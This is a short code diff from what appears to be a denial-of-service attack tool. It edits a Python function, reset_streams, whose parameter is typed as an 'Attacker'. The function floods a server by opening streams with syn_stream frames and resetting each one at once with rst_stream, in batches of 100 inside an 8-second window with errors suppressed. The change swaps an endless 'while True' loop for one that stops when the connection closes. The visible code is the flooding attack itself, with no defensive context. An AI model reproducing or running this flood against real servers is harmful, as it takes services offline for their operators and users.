@@ -113,7 +113,7 @@ async def reset_streams(who: Attacker) -> int:
         taken += 1
     with contextlib.suppress(TimeoutError, ConnectionError):
         async with asyncio.timeout(8):
-            while True:
+            while not writer.is_closing():
                 for _ in range(100):
                     number = 2 * (taken := taken + 1) + 1
                     writer.write(encoder.syn_stream(number, {"streamtype": "x"}) + encoder.rst_stream(number))
